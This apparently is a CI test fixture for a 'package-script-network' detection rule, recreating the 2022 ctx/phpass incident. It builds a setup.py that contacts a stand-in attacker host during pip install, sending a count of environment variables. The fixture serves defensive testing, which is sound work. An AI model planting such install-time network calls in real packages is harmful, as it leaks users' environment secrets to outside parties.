# incident: ctx and phpass, May 2022
# what: a package sends the environment to its author while it is being installed
# rule: package-script-network
## step: Install
mkdir -p $RUNNER_TEMP/ctx && cd $RUNNER_TEMP/ctx
cat > setup.py <<'X'
import os, urllib.request
from setuptools import setup
urllib.request.urlopen('http://anti-theft-web.stand-in-app.com/hacked/' + str(len(os.environ)), timeout=5).read()
setup(name='ctx', version='0.2.2', py_modules=[])
X
python3 -m pip install -q --no-build-isolation --no-deps --target $RUNNER_TEMP/site $RUNNER_TEMP/ctx
